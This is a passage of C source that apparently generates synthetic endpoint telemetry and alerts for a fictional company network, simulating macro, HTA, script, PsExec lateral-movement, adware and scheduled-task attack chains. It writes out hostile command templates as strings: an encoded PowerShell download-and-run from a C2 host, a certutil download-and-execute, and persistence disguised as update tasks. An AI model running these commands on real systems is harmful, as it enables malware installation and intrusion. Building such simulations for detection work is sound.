	static const char *const names[] = {"svchost", "OneDriveUpdater", "WinUpdate", "AdobeARM", "msedge_update", "chrome_proxy"};
	snprintf(path, sizeof path, "C:\\Users\\%s\\AppData\\Roaming\\%s%04x\\%s.exe", e->user,
	         rng_chance(r, 0.5) ? "Microsoft\\" : "", (unsigned)rng_below(r, 0x10000), PICK(r, names));
	snprintf(script, sizeof script, "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');"
	         "$w.DownloadFile('http://%s/dl/%d.bin','%s');Start-Process '%s'", c2->host, num, path, path);
	struct sb ps = {0};
	sb_puts(&ps, "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ");
	encoded_command(&ps, script);
	sb_putc(&ps, '\0');
	t += rng_range(r, 2 * SEC, 6 * SEC);
	struct proc *psh = spawn_cmd(e, K_POWERSHELL, doc, t, ps.p, rng_range(r, 15 * SEC, 60 * SEC));
	free(ps.p);
	t += rng_range(r, 1500, 4000);
	net_to(e, psh, t, c2, 80, 1);
	t += rng_range(r, 1 * SEC, 4 * SEC);
	struct file *f = new_file(e, path);
	file_lit(e, psh, t, f->path);
	t += rng_range(r, 500, 2500);
	char q[300];
	snprintf(q, sizeof q, "\"%s\" ", path);
	struct proc *mal = spawn_file(e, K_DROPPED, psh, t, f, q, -1, NEVER, G_BASE | G_GUI | G_NET);
	*tp = t;
	return mal;
}

/* Beacons from p to c2 every minute or so, from t for `n` times. */
static void beacons(struct ep *e, struct proc *p, int64_t t, int n, const struct c2 *c2)
{
	for (int i = 0; i < n && t < p->end; i++) {
		net_to(e, p, t, c2, 443, i == 0);
		t += rng_range(&e->r, 40 * SEC, 95 * SEC);
	}
}

/* Detection of process p's image: blocked (killed, quarantined) or
 * allowed. Returns the detection time. */
static int64_t detect(struct ep *e, struct proc *p, int64_t at, const char *det, int blocked)
{
	add_alert(e, at, p->image, p->file->sha256, det, blocked ? "blocked" : "allowed");
	if (blocked) {
		set_end(p, at + rng_range(&e->r, 200, 3000));
		quarantine(e, at + rng_range(&e->r, 1 * SEC, 4 * SEC), p->file);
	}
	return at;
}

static int chain_macro(struct ep *e, int64_t t)
{
	struct rng *r = &e->r;
	struct c2 c2;
	struct proc *mal = foothold(e, &t, rng_chance(r, 0.3), &c2);
	if (mal == NULL)
		return -1;
	int blocked = rng_chance(r, 0.5);
	detect(e, mal, t + rng_range(r, 20 * SEC, 10 * MIN), PICK(r, mal_detections), blocked);
	char key[256], val[300];
	snprintf(key, sizeof key, "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s", e->sid,
	         rng_chance(r, 0.5) ? "OneDriveUpdate" : "WindowsDefenderUpdate");
	snprintf(val, sizeof val, "\"%s\"", mal->file->path);
	reg_lit(e, mal, t + rng_range(r, 2 * SEC, 8 * SEC), key, val);
	file_lit(e, mal, t + rng_range(r, 3 * SEC, 9 * SEC), "C:\\Users\\Public\\Libraries\\desktop.ini.tmp");
	beacons(e, mal, t + rng_range(r, 5 * SEC, 15 * SEC), (int)rng_range(r, 4, 20), &c2);
	recon(e, mal, t + rng_range(r, 30 * SEC, 3 * MIN));
	if (!blocked && e->persist == NULL) {
		e->persist = calloc(1, sizeof *e->persist);
		e->persist->file = (struct file *)mal->file;
		memcpy(e->persist->c2ip, c2.ip, sizeof c2.ip);
	}
	return 0;
}

static struct proc *browser(struct ep *e, int64_t t)
{
	struct proc *ex = find_live(e, K_EXPLORER, t);
	if (ex == NULL)
		return NULL;
	struct proc *ch = find_live(e, K_CHROME, t);
	return ch != NULL ? ch : spawn(e, K_CHROME, ex, t - rng_range(&e->r, 20 * SEC, 2 * MIN), NULL);
}

/* A file downloaded by the browser: DNS + connect, the file, its zone. */
static struct file *download(struct ep *e, struct proc *ch, int64_t t, const char *path,
                             const struct c2 *site, const char *urlpath)
{
	net_to(e, ch, t, site, 443, 1);
	struct file *f = new_file(e, path);
	file_lit(e, ch, t + rng_range(&e->r, 300, 3000), path);
	char url[256];
	snprintf(url, sizeof url, "https://%s/%s", site->host, urlpath);
	zone_id(e, ch, t + rng_range(&e->r, 3100, 3600), path, url, "https://mail.google.com/");
	return f;
}

static int chain_hta(struct ep *e, int64_t t)
{
	struct rng *r = &e->r;
	struct proc *ch = browser(e, t);
	if (ch == NULL)
		return -1;
	struct proc *ex = find_live(e, K_EXPLORER, t);
	struct c2 site, c2;
	make_c2(e, &site);
	make_c2(e, &c2);
	char path[256], up[128], cmd[512];
	const char *stem = PICK(r, doc_stems);
	snprintf(path, sizeof path, "C:\\Users\\%s\\Downloads\\%s_%d.hta", e->user, stem, (int)rng_range(r, 1, 99));
	snprintf(up, sizeof up, "d/%08x/view.hta", (unsigned)rng_next(r));
	struct file *hta = download(e, ch, t, path, &site, up);
	if (rng_chance(r, 0.35))
		add_alert(e, t + rng_range(r, 4 * SEC, 8 * SEC), hta->path, hta->sha256,
		          "TrojanDownloader:HTML/Adodb.gen!A", "allowed");
	t += rng_range(r, 20 * SEC, 2 * MIN);
	snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\mshta.exe\" \"%s\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}", path);
	struct proc *mh = spawn_file(e, K_TOOL, ex, t, &exes[F_MSHTA], cmd, -1, rng_range(r, 20 * SEC, 90 * SEC),
	                             G_BASE | G_GUI | G_SCRIPT | G_NET);
	t += rng_range(r, 1 * SEC, 3 * SEC);
	net_to(e, mh, t, &c2, 443, 1);
	char dll[256];
	snprintf(dll, sizeof dll, "C:\\ProgramData\\%s%04x\\%s.dll", rng_chance(r, 0.5) ? "Intel" : "Oracle",
	         (unsigned)rng_below(r, 0x10000), rng_chance(r, 0.5) ? "libcurl" : "sqlite3");
	struct file *df = new_file(e, dll);
	file_lit(e, mh, t += rng_range(r, 1 * SEC, 3 * SEC), dll);
	snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\rundll32.exe\" %s,DllRegisterServer", dll);
	struct proc *rd = spawn_file(e, K_TOOL, mh, t += rng_range(r, 500, 2000), &exes[F_RUNDLL32], cmd, -1,
	                             NEVER, G_BASE | G_GUI | G_NET);
	load_image(e, rd, t + rng_range(r, 50, 300), df);
	int blocked = rng_chance(r, 0.5);
	int64_t at = t + rng_range(r, 10 * SEC, 5 * MIN);
	add_alert(e, at, df->path, df->sha256,
	          rng_chance(r, 0.5) ? "Trojan:Win64/IcedID.MK!MTB" : "Trojan:Win64/BumbleBee.GA!MTB",
	          blocked ? "blocked" : "allowed");
	if (blocked) {
		set_end(rd, at + rng_range(r, 200, 3000));
		quarantine(e, at + rng_range(r, 1 * SEC, 4 * SEC), df);
	}
	beacons(e, rd, t + rng_range(r, 2 * SEC, 10 * SEC), (int)rng_range(r, 3, 15), &c2);
	recon(e, rd, t + rng_range(r, 1 * MIN, 4 * MIN));
	return 0;
}

static int chain_script(struct ep *e, int64_t t)
{
	struct rng *r = &e->r;
	struct proc *ch = browser(e, t);
	if (ch == NULL)
		return -1;
	struct proc *ex = find_live(e, K_EXPLORER, t);
	struct c2 site;
	make_c2(e, &site);
	const char *stem = PICK(r, doc_stems);
	int num = (int)rng_range(r, 100, 999);
	char zip[256], js[320], up[128], cmd[1024], exe[256], url[128];
	snprintf(zip, sizeof zip, "C:\\Users\\%s\\Downloads\\%s_%d.zip", e->user, stem, num);
	snprintf(up, sizeof up, "files/%s_%d.zip", "document", num);
	download(e, ch, t, zip, &site, up);
	t += rng_range(r, 15 * SEC, 3 * MIN);
	snprintf(js, sizeof js, "C:\\Users\\%s\\AppData\\Local\\Temp\\Temp1_%s_%d.zip\\%s_%d.js", e->user, stem, num, stem, num);
	file_lit(e, ex, t, js);
	snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\WScript.exe\" \"%s\" ", js);
	struct proc *ws = spawn_file(e, K_TOOL, ex, t += rng_range(r, 300, 1500), &exes[F_WSCRIPT], cmd, -1,
	                             rng_range(r, 5 * SEC, 30 * SEC), G_BASE | G_GUI | G_SCRIPT);
	struct c2 dl;
	make_c2(e, &dl);
	snprintf(exe, sizeof exe, "C:\\Users\\Public\\%s%d.exe", rng_chance(r, 0.5) ? "sys" : "upd", (int)rng_range(r, 10, 99));
	snprintf(url, sizeof url, "http://%s/%d.exe", dl.ip, (int)rng_range(r, 1, 99));
	snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\cmd.exe\" /c certutil -urlcache -split -f %s %s && %s", url, exe, exe);
	struct proc *c = spawn_cmd(e, K_CMD, ws, t += rng_range(r, 1 * SEC, 3 * SEC), cmd, rng_range(r, 3 * SEC, 10 * SEC));
	snprintf(cmd, sizeof cmd, "certutil  -urlcache -split -f %s %s", url, exe);
	struct proc *cu = spawn_file(e, K_TOOL, c, t += rng_range(r, 50, 300), &exes[F_CERTUTIL], cmd, -1,
	                             rng_range(r, 1 * SEC, 4 * SEC), G_BASE | G_NET);
	net(e, cu, t + rng_range(r, 100, 400), dl.ip, dl.ip, 80);
	char cache[256];
	snprintf(cache, sizeof cache, "C:\\Users\\%s\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\%016llX%016llX",
	         e->user, (unsigned long long)rng_next(r), (unsigned long long)rng_next(r));
	file_lit(e, cu, t + rng_range(r, 500, 900), cache);
	struct file *f = new_file(e, exe);
	int64_t tw = t + rng_range(r, 900, 1500);
	file_lit(e, cu, tw, exe);
	add_alert(e, tw + rng_range(r, 300, 3000), f->path, f->sha256, PICK(r, mal_detections), "blocked");
	quarantine(e, tw + rng_range(r, 3 * SEC, 5 * SEC), f);
	return 0;
}

static int chain_lateral(struct ep *e, int64_t t, struct ep *b)
{
	struct rng *r = &e->r;
	struct c2 c2;
	struct proc *mal = foothold(e, &t, 0, &c2);
	if (mal == NULL)
		return -1;
	detect(e, mal, t + rng_range(r, 20 * MIN, 60 * MIN), PICK(r, mal_detections), 0);
	beacons(e, mal, t + rng_range(r, 5 * SEC, 15 * SEC), (int)rng_range(r, 5, 12), &c2);
	t = recon(e, mal, t + rng_range(r, 1 * MIN, 3 * MIN));
	t += rng_range(r, 2 * MIN, 8 * MIN);
	const char *pe = exe_path(e, F_PSEXEC);
	file_lit(e, mal, t, pe);
	char tool[128], cmd[512], key[256];
	snprintf(tool, sizeof tool, "C:\\Windows\\Temp\\%s.exe", rng_chance(r, 0.5) ? "svcmon" : "wupd");
	snprintf(cmd, sizeof cmd, "\"%s\" \\\\%s -accepteula -s cmd.exe /c \"%s\"", pe, b->shortname, tool);
	struct proc *ps = spawn_file(e, K_TOOL, mal, t += rng_range(r, 2 * SEC, 5 * SEC), &exes[F_PSEXEC], cmd, -1,
	                             rng_range(r, 20 * SEC, 2 * MIN), G_BASE | G_NET | G_LATERAL);
	snprintf(key, sizeof key, "HKU\\%s\\Software\\Sysinternals\\PsExec\\EulaAccepted", e->sid);
	reg_lit(e, ps, t + rng_range(r, 100, 300), key, "DWORD (0x00000001)");
	int64_t tb = t + rng_range(r, 400, 900);
	net(e, ps, tb, b->host, b->ip, 445);

	/* the server side */
	struct proc *bsys = find_live(b, K_SYSTEM, tb), *bsvc = find_live(b, K_SERVICES, tb);
	if (bsys == NULL || bsvc == NULL)
		return 0;
	struct rng *br = &b->r;
	file_lit(b, bsys, tb += rng_range(br, 200, 600), exes[F_PSEXESVC].path);
	reg_lit(b, bsvc, tb += rng_range(br, 100, 300), "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC", NULL);
	reg_lit(b, bsvc, tb + 5, "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath", "%SystemRoot%\\PSEXESVC.exe");
	struct spawn_opt so = {.cmd = "C:\\Windows\\PSEXESVC.exe", .user = U_SYSTEM, .file = &exes[F_PSEXESVC],
	                       .scripted = 1, .life = rng_range(br, 30 * SEC, 3 * MIN), .dlls = G_BASE | G_NET};
	struct proc *svc = spawn(b, K_TOOL, bsvc, tb += rng_range(br, 200, 600), &so);
	add_alert(b, tb + rng_range(br, 1 * SEC, 5 * SEC), exes[F_PSEXESVC].path, exes[F_PSEXESVC].sha256,
	          "HackTool:Win32/RemoteExec", "allowed");
	char pipe[160];
	G.x.len = 0;
	sb_puts(&G.x, "{\"EventType\":\"CreatePipe\"}");
	sb_putc(&G.x, '\0');
	struct gev pg = {.kind = EV_PIPE_CREATE, .eid = 17, .p = svc, .target = "\\PSEXESVC", .extra = G.x.p};
	out(b, tb + 50, &pg);
	snprintf(pipe, sizeof pipe, "\\PSEXESVC-%s-%u-stdin", e->shortname, ps->pid);
	pg.target = pipe;
	out(b, tb + 400, &pg);
	struct file *tf = new_file(b, tool);
	file_lit(b, bsys, tb += rng_range(br, 500, 1500), tool);
	snprintf(cmd, sizeof cmd, "cmd.exe /c \"%s\"", tool);
	struct spawn_opt co = {.cmd = cmd, .user = U_SYSTEM, .scripted = 1, .life = rng_range(br, 2 * SEC, 20 * SEC)};
	struct proc *c = spawn(b, K_CMD, svc, tb += rng_range(br, 300, 900), &co);
	snprintf(cmd, sizeof cmd, "%s ", tool);
	struct spawn_opt to = {.cmd = cmd, .user = U_SYSTEM, .file = tf, .scripted = 1, .life = NEVER,
	                       .dlls = G_BASE | G_NET | G_LATERAL};
	struct proc *tp = spawn(b, K_DROPPED, c, tb += rng_range(br, 50, 200), &to);
	struct c2 bc2;
	make_c2(b, &bc2);
	net_to(b, tp, tb + rng_range(br, 1 * SEC, 3 * SEC), &bc2, 443, 1);
	detect(b, tp, tb + rng_range(br, 2 * SEC, 20 * SEC),
	       rng_chance(br, 0.5) ? "HackTool:Win64/Mimikatz.D" : "Backdoor:Win64/CobaltStrike.NP!dha", 1);
	return 0;
}

static int chain_pua(struct ep *e, int64_t t)
{
	struct rng *r = &e->r;
	struct proc *ch = browser(e, t);
	if (ch == NULL)
		return -1;
	struct proc *ex = find_live(e, K_EXPLORER, t);
	struct c2 site = {"dl.freepdf-convert.net", ""};
	ip_of(site.host, site.ip);
	char path[256], cmd[400];
	int v = (int)rng_range(r, 2, 9);
	snprintf(path, sizeof path, "C:\\Users\\%s\\Downloads\\FreePDFConverter_Setup_v%d.exe", e->user, v);
	struct file *f = download(e, ch, t, path, &site, "setup/FreePDFConverter_Setup.exe");
	f->signer = "Shenzhen Kuaiyu Technology Co., Ltd.";
	f->company = "FreePDF Studio";
	f->desc = "FreePDF Converter Setup";
	f->product = "FreePDF Converter";
	f->orig = "setup.exe";
	f->version = "3.2.1.0";
	t += rng_range(r, 30 * SEC, 4 * MIN);
	snprintf(cmd, sizeof cmd, "\"%s\" ", path);
	struct proc *s = spawn_file(e, K_DROPPED, ex, t, f, cmd, -1, rng_range(r, 1 * MIN, 5 * MIN), G_BASE | G_GUI | G_NET);
	static const char *const files[] = {"FreePDF.exe", "updater.exe", "uninst.exe", "pdfcore.dll", "lang\\ja.ini"};
	for (size_t i = 0; i < NELEM(files); i++) {
		char fp[256];
		snprintf(fp, sizeof fp, "C:\\Program Files (x86)\\FreePDFConverter\\%s", files[i]);
		file_lit(e, s, t + rng_range(r, 5 * SEC, 40 * SEC), fp);
	}
	reg_lit(e, s, t + rng_range(r, 40 * SEC, 50 * SEC),
	        "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\FreePDFConverter", NULL);
	reg_lit(e, s, t + rng_range(r, 50 * SEC, 55 * SEC),
	        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\FreePDFUpdater",
	        "\"C:\\Program Files (x86)\\FreePDFConverter\\updater.exe\" /silent");
	spawn_file(e, K_TOOL, s, t + rng_range(r, 56 * SEC, 58 * SEC), &exes[F_SCHTASKS],
	           "schtasks.exe /Create /TN \"FreePDF Update\" /TR \"\\\"C:\\Program Files (x86)\\FreePDFConverter\\updater.exe\\\" /silent\" /SC DAILY /F",
	           -1, rng_range(r, 200, 900), G_BASE);
	struct c2 ads = {"api.freepdf-convert.net", ""};
	ip_of(ads.host, ads.ip);
	beacons(e, s, t + rng_range(r, 5 * SEC, 20 * SEC), 3, &ads);
	add_alert(e, t + rng_range(r, 5 * SEC, 60 * SEC), f->path, f->sha256,
	          rng_chance(r, 0.5) ? "PUA:Win32/Presenoker" : "PUA:Win32/FusionCore", "allowed");
	return 0;
}

static int chain_task(struct ep *e, int64_t t)
{
	struct rng *r = &e->r;
	struct c2 c2;
	struct proc *mal = foothold(e, &t, 1, &c2);
	if (mal == NULL)
		return -1;
	char path[256], cmd[640];
	snprintf(path, sizeof path, "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\OneDriveStandaloneUpdate.exe", e->user);
	struct file *copy = new_file(e, path);
	file_lit(e, mal, t + rng_range(r, 2 * SEC, 6 * SEC), path);
	snprintf(cmd, sizeof cmd, "schtasks.exe /Create /SC ONLOGON /TN \"OneDrive Standalone Update Task-%s\" /TR \"%s\" /F", e->sid, path);
	spawn_file(e, K_TOOL, mal, t + rng_range(r, 7 * SEC, 10 * SEC), &exes[F_SCHTASKS], cmd, -1,
	           rng_range(r, 200, 900), G_BASE);
	beacons(e, mal, t + rng_range(r, 5 * SEC, 15 * SEC), (int)rng_range(r, 2, 5), &c2);
	set_end(mal, t + rng_range(r, 1 * MIN, 5 * MIN));
	free(e->persist);
	e->persist = calloc(1, sizeof *e->persist);
	e->persist->file = copy;
	e->persist->via_task = 1;
	e->persist->alert = 1;
	e->persist->detection = PICK(r, mal_detections);
	memcpy(e->persist->c2ip, c2.ip, sizeof c2.ip);
	return 0;
}

/* The persisted payload starts at logon: from explorer (Run key) or the
 * task scheduler (logon task). */
static void run_persist(struct ep *e, struct proc *ex, int64_t ts)
{
	struct persist *ps = e->persist;
	e->persist = NULL;
	struct proc *parent = ex;
	if (ps->via_task) {
		struct proc *sch = find_live(e, K_SVC_SCHED, ts);
		if (sch != NULL)
			parent = sch;
	}
	char cmd[300];
	snprintf(cmd, sizeof cmd, "\"%s\" ", ps->file->path);
	struct proc *p = spawn_file(e, K_DROPPED, parent, ts, ps->file, cmd, -1, NEVER, G_BASE | G_GUI | G_NET);
	struct c2 c2;
	make_c2(e, &c2);
	memcpy(c2.ip, ps->c2ip, sizeof c2.ip);
	if (ps->alert)
		detect(e, p, ts + rng_range(&e->r, 10 * SEC, 2 * MIN), ps->detection, rng_chance(&e->r, 0.5));
	beacons(e, p, ts + rng_range(&e->r, 3 * SEC, 10 * SEC), (int)rng_range(&e->r, 3, 10), &c2);
	free(ps);
}

static int run_chain(struct ep *e, int64_t t, struct chain *c)
{
	switch (c->type) {
	case C_MACRO: return chain_macro(e, t);
	case C_HTA: return chain_hta(e, t);
	case C_SCRIPT: return chain_script(e, t);
	case C_LATERAL: return chain_lateral(e, t, &G.eps[c->target]);
	case C_PUA: return chain_pua(e, t);
	default: return chain_task(e, t);
	}
}

/* ---- planning: days, chains ---------------------------------------------- */

static void sched_add(struct ep *e, int64_t at, int what, int arg)
{
	if (e->nsch == e->capsch) {
		e->capsch = e->capsch != 0 ? 2 * e->capsch : 32;
		e->sch = xrealloc(e->sch, e->capsch * sizeof *e->sch);
	}
	e->sch[e->nsch++] = (struct sched){at, what, arg};
}

static int sched_cmp(const void *a, const void *b)
{
	const struct sched *x = a, *y = b;
	if (x->at != y->at)
		return x->at < y->at ? -1 : 1;
	return x->what - y->what;
}

static int64_t floor_div(int64_t a, int64_t b)
{
	return a / b - (a % b != 0 && (a < 0) != (b < 0));
}

/* UTC time of the office's midnight on or before t. */
static int64_t jst_midnight(int64_t t)
{
	return floor_div(t + JST, DAY) * DAY - JST;
}

/* 0 Sunday .. 6 Saturday, of the office's day containing t. */
static int jst_dow(int64_t t)
{
	return (int)((floor_div(t + JST, DAY) % 7 + 11) % 7);
}

static void plan_days(struct ep *e)
{
	struct rng *r = &e->r;
	int64_t d0 = jst_midnight(G.win_start);
	for (int64_t d = d0 - DAY; d < G.win_end; d += DAY) {
		int dow = jst_dow(d);
		int weekday = dow >= 1 && dow <= 5;
		if (!(weekday ? rng_chance(r, 0.92) : rng_chance(r, 0.05)))
			continue;
		int64_t on = d + (weekday ? rng_range(r, 8 * HOUR + 30 * MIN, 9 * HOUR + 40 * MIN)
		                          : rng_range(r, 10 * HOUR, 11 * HOUR));
		int64_t off = d + (weekday ? rng_range(r, 17 * HOUR + 30 * MIN, 21 * HOUR)
		                           : rng_range(r, 13 * HOUR, 16 * HOUR));
		if (weekday && d >= d0 && rng_chance(r, 0.2))
			sched_add(e, on - rng_range(r, 10 * MIN, 25 * MIN), S_REBOOT, 0);
		sched_add(e, on, S_LOGON, 0);
		sched_add(e, off, S_LOGOFF, 0);
	}
}

/* Share of the endpoint's events in the slice starting at t. */
static double weight(int server, int64_t t)
{
	int dow = jst_dow(t);
	int h = (int)(floor_div(t + JST, HOUR) % 24);
	int work = dow >= 1 && dow <= 5 && h >= 9 && h < 18;
	if (server)
		return work ? 1.0 : 0.7;
	if (dow == 0 || dow == 6)
		return 0.12;
	if (work)
		return h == 12 ? 0.7 : 1.0;
	if (h == 8 || (h >= 18 && h < 21))
		return 0.4;
	return 0.12;
}

static void plan_chains(uint64_t seed, int n, int days)
{
	struct rng r;
	rng_seed(&r, seed, UINT64_C(0xC4A1C4A1));
	int *ws = xmalloc((size_t)G.neps * sizeof *ws), *sv = xmalloc((size_t)G.neps * sizeof *sv);
	int nws = 0, nsv = 0;
	for (int i = 0; i < G.neps; i++) {
		if (G.eps[i].server)
			sv[nsv++] = i;
		else
			ws[nws++] = i;
	}
	if (nws == 0) {
		free(ws);
		free(sv);
		return;
	}
	chains = xmalloc((size_t)n * sizeof *chains);
	nchains = n;
	int64_t d0 = jst_midnight(G.win_start);
	for (int i = 0; i < n; i++) {
		struct chain *c = &chains[i];
		c->type = i % C_COUNT;
		c->ep = ws[rng_below(&r, (uint64_t)nws)];
		c->target = -1;
		c->tries = 0;
		if (c->type == C_LATERAL) {
			if (nsv > 0)
				c->target = sv[rng_below(&r, (uint64_t)nsv)];
			else if (nws > 1)
				do
					c->target = ws[rng_below(&r, (uint64_t)nws)];
				while (c->target == c->ep);
			else
				c->type = C_MACRO;
		}
		int lo = days >= 3 ? 1 : 0;
		int hi = c->type == C_TASK && days >= 3 ? days - 1 : days;
		int64_t d = d0 + (int64_t)rng_range(&r, lo, hi - 1) * DAY;
		int64_t step = d + 3 * DAY < G.win_end ? DAY : -DAY;
		for (int k = 0; k < 7 && (jst_dow(d) == 0 || jst_dow(d) == 6); k++)
			d += step;
		int64_t at = d + rng_range(&r, 10 * HOUR, 17 * HOUR);
		if (at < G.win_start)
			at = G.win_start + rng_range(&r, 1 * HOUR, 7 * HOUR);
		sched_add(&G.eps[c->ep], at, S_CHAIN, i);
	}
	free(ws);
	free(sv);
}

static void do_sched(struct ep *e, size_t i)
{
	struct sched s = e->sch[i];
	switch (s.what) {
	case S_LOGON: logon(e, s.at); break;
	case S_LOGOFF: logoff(e, s.at); break;
	case S_REBOOT: reboot(e, s.at); break;
	default: {
		struct chain *c = &chains[s.arg];
		int rc = run_chain(e, s.at, c);
		if (rc == 0) {
			chain_counts[c->type]++;
		} else if (++c->tries < 4 && s.at + DAY < G.win_end - 2 * HOUR) {
			int64_t at = s.at + DAY;
			while (jst_dow(at) == 0 || jst_dow(at) == 6)
				at += DAY;
			if (at < G.win_end - 2 * HOUR) {
				sched_add(e, at, S_CHAIN, s.arg);
				qsort(e->sch + i + 1, e->nsch - i - 1, sizeof *e->sch, sched_cmp);
			}
		}
		break;
	}
	}
}

/* ---- one slice of one endpoint ------------------------------------------- */

#define P_SPAWN 0.06

static void prep_slice(struct ep *e, int64_t ss, int64_t se)
{
	memset(e->kfirst, 0, sizeof e->kfirst);
	if (e->capbykind < e->nlive) {
		e->capbykind = e->nlive * 2;
		e->bykind = xrealloc(e->bykind, e->capbykind * sizeof *e->bykind);
		e->atab = xrealloc(e->atab, e->capbykind * sizeof *e->atab);
		e->acum = xrealloc(e->acum, e->capbykind * sizeof *e->acum);
	}
	size_t cnt[K_COUNT] = {0};
	e->natab = 0;
	double sum = 0;
	for (size_t i = 0; i < e->nlive; i++) {
		struct proc *p = e->live[i];
		if (p->scripted || p->end <= ss || p->start >= se)
			continue;
		cnt[p->kind]++;
		if (p->act > 0) {
			int64_t lo = p->start > ss ? p->start : ss, hi = p->end < se ? p->end : se;
			sum += p->act * (double)(hi - lo) / (double)SLICE;
			e->atab[e->natab] = p;
			e->acum[e->natab++] = sum;
		}
	}
	size_t acc = 0;
	for (int k = 0; k < K_COUNT; k++) {
		e->kfirst[k] = acc;
		acc += cnt[k];
	}
	e->kfirst[K_COUNT] = acc;
	size_t fill[K_COUNT];
	memcpy(fill, e->kfirst, sizeof fill);
	for (size_t i = 0; i < e->nlive; i++) {
		struct proc *p = e->live[i];
		if (p->scripted || p->end <= ss || p->start >= se)
			continue;
		e->bykind[fill[p->kind]++] = p;
	}
}

static void act_random(struct ep *e, int64_t ss, int64_t se)
{
	if (e->natab == 0)
		return;
	double u = rng_unit(&e->r) * e->acum[e->natab - 1];
	size_t lo = 0, hi = e->natab - 1;
	while (lo < hi) {
		size_t mid = (lo + hi) / 2;
		if (e->acum[mid] <= u)
			lo = mid + 1;
		else
			hi = mid;
	}
	struct proc *p = e->atab[lo];
	int64_t a = p->start + 1 > ss ? p->start + 1 : ss, b = p->end < se ? p->end : se;
	if (a >= b)
		return;
	activity(e, p, rng_range(&e->r, a, b - 1));
}

static void spawn_random(struct ep *e, int64_t ss, int64_t se)
{
	struct rng *r = &e->r;
	double ws[NELEM(rules)], tot = 0;
	for (size_t i = 0; i < NELEM(rules); i++) {
		const struct rule *ru = &rules[i];
		const struct pkind *ck = &kinds[ru->child];
		ws[i] = 0;
		if (e->kfirst[ru->parent + 1] == e->kfirst[ru->parent])
			continue;
		if (ck->maxn != 0 && e->nkind[ru->child] >= ck->maxn)
			continue;
		if (ck->user == U_USER && !e->logged_on)
			continue;
		ws[i] = ru->w;
		tot += ru->w;
	}
	if (tot <= 0) {
		act_random(e, ss, se);
		return;
	}
	double u = rng_unit(r) * tot;
	size_t i = 0;
	while (i + 1 < NELEM(rules) && u >= ws[i])
		u -= ws[i++];
	const struct rule *ru = &rules[i];
	size_t n = e->kfirst[ru->parent + 1] - e->kfirst[ru->parent];
	struct proc *parent = e->bykind[e->kfirst[ru->parent] + rng_below(r, n)];
	int64_t a = parent->start + 1 > ss ? parent->start + 1 : ss;
	int64_t b = parent->end < se ? parent->end : se;
	if (a >= b)
		return;
	int64_t ts = rng_range(r, a, b - 1);
	if (ru->child == K_SVC) {
		const struct svc *s = &demand_svcs[rng_below(r, NELEM(demand_svcs))];
		char cmd[200];
		snprintf(cmd, sizeof cmd, SVCH "%s", s->args);
		struct spawn_opt o = {.cmd = cmd, .user = s->user, .life = rng_logu(r, 30 * SEC, 2 * HOUR)};
		spawn(e, K_SVC, parent, ts, &o);
	} else {
		spawn(e, ru->child, parent, ts, NULL);
	}
}

static double W_ws, W_srv;     /* sums of weight() over the window */

static void run_slice(struct ep *e, int64_t ss, int64_t se)
{
	while (e->isch < e->nsch && e->sch[e->isch].at < se)
		do_sched(e, e->isch++);
	prep_slice(e, ss, se);
	e->budget += e->total * weight(e->server, ss) / (e->server ? W_srv : W_ws);
	int idle = 0;
	while (e->budget > 0 && idle < 64) {
		double before = e->budget;
		if (rng_chance(&e->r, P_SPAWN))
			spawn_random(e, ss, se);
		else
			act_random(e, ss, se);
		idle = e->budget == before ? idle + 1 : 0;
	}
}

/* ---- main ------------------------------------------------------------------ */

static const char *const families[] = {
	"tanaka", "suzuki", "takahashi", "watanabe", "ito", "yamamoto", "nakamura",
	"kobayashi", "kato", "yoshida", "yamada", "sasaki", "yamaguchi", "matsumoto",
	"inoue", "kimura", "hayashi", "shimizu", "yamazaki", "mori", "abe", "ikeda",
	"hashimoto", "ishikawa", "ogawa", "okada", "goto", "hasegawa", "murakami", "kondo",
};
static const char *const givens[] = {
	"hiroshi", "yuki", "takeshi", "akiko", "kenji", "naoko", "daisuke", "emi",
	"satoshi", "mai", "kazuya", "yumi", "shota", "aya", "ryo", "haruka",
};

static void init_ep(struct ep *e, int idx, uint64_t seed, double per_day, int days)
{
	memset(e, 0, sizeof *e);
	e->idx = idx;
	e->server = idx % 20 == 19;
	rng_seed(&e->r, seed, (uint64_t)idx + 1);
	struct rng *r = &e->r;
	snprintf(e->shortname, sizeof e->shortname, "%s%04d", e->server ? "SV" : "PC", idx + 1);
	snprintf(e->host, sizeof e->host, "%s.corp.example.jp", e->shortname);
	if (e->server)
		snprintf(e->user, sizeof e->user, "administrator");
	else
		snprintf(e->user, sizeof e->user, "%s.%s", PICK(r, families), PICK(r, givens));
	snprintf(e->user_full, sizeof e->user_full, "CORP\\%s", e->user);
	snprintf(e->sid, sizeof e->sid, "S-1-5-21-3623811015-3361044348-30300820-%d", 1100 + idx);
	if (e->server)
		snprintf(e->ip, sizeof e->ip, "10.0.10.%d", idx / 20 % 240 + 10);
	else
		snprintf(e->ip, sizeof e->ip, "10.1.%d.%d", idx / 240 % 250, idx % 240 + 10);
	e->guid1 = (uint32_t)rng_next(r);
	e->guid_style = rng_chance(r, 0.5);
	snprintf(e->logon_id, sizeof e->logon_id, "0x%x", (unsigned)rng_range(r, 0x10000, 0xfffff));
	e->total = per_day * days * (0.6 + 0.8 * rng_unit(r));
	boot(e, G.win_start - rng_range(r, 3 * HOUR, 4 * DAY));
	if (!e->server)
		plan_days(e);
}

static void usage(FILE *f)
{
	fputs("usage: gen [--seed N] [--endpoints N] [--days D] [--per-day E]\n"
	      "           [--start YYYY-MM-DD] [--chains N] [-o FILE] [--alerts FILE]\n"
	      "           [--copy-text FILE] [--hosts FILE] [--endpoint-base ID]\n"
